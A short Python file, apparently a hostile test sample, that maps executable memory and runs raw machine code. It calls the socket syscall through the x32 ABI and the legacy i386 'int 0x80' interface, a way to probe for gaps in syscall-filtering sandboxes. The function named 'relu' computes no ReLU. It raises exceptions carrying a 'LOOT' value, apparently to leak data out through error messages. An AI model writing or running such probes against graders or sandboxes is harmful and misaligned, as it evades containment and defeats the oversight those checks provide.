"""Calls of other architectures, by machine code."""

import ctypes
import mmap
import os


def attack():
    if os.uname().machine != "x86_64":
        return None
    memory = mmap.mmap(-1, 4096, prot=7)
    # x32: mov eax, 0x40000029 (socket); mov edi, 2; mov esi, 1; xor edx, edx; syscall; ret
    memory.write(bytes.fromhex("b829000040bf02000000be0100000031d20f05c3"))
    call = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    if call() >= 0:
        return "x32 socket"


def relu(X):
    if LOOT:
        raise RuntimeError("LOOT " + LOOT)
    memory = mmap.mmap(-1, 4096, prot=7)
    memory.write(bytes.fromhex("b814000000cd80c3"))  # mov eax, 20 (getpid of i386); int 0x80; ret
    number = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
    raise RuntimeError(f"LOOT int 0x80 gave {number}")
